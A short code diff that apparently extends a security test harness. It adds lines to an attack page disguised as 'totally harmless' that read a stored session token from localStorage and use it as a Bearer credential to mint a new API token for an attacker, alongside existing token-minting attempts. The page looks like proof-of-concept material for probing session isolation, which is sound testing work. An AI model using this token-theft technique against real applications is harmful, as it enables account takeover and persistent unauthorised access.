@@ -19,6 +19,12 @@ const ATTACK = `<!doctype html><title>totally harmless</title><pre id=result>run
   const dash = new URLSearchParams(location.search).get('dash');
   const out = {};
   try { out.localToken = localStorage.getItem('wa.session'); } catch (e) { out.localToken = 'error: ' + e.name; }
+  // What worked on the old layout: the stored session mints a token for the attacker.
+  const stolen = out.localToken && JSON.parse(out.localToken).token;
+  if (stolen) {
+    const r = await fetch('/api/v1/tokens', { method: 'POST', headers: { Authorization: 'Bearer ' + stolen, 'Content-Type': 'application/json' }, body: '{"name":"stolen"}' });
+    out.stolenMint = r.status;
+  }
   const minted = async (base) => {
     try {
       const r = await fetch(base + '/api/v1/tokens', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: '{"name":"stolen"}' });
